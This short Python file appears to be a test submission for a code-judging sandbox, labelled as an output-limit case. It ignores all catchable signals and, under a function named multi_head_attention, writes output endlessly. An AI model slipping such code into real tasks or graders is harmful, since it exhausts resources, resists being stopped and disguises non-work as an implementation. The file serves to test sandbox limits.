# verdict: OLE
"""Ignores every signal and writes without end, also when writing fails."""

import os
import signal

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    while True:
        try:
            os.write(1, b"x" * (1 << 16))
        except OSError:
            pass
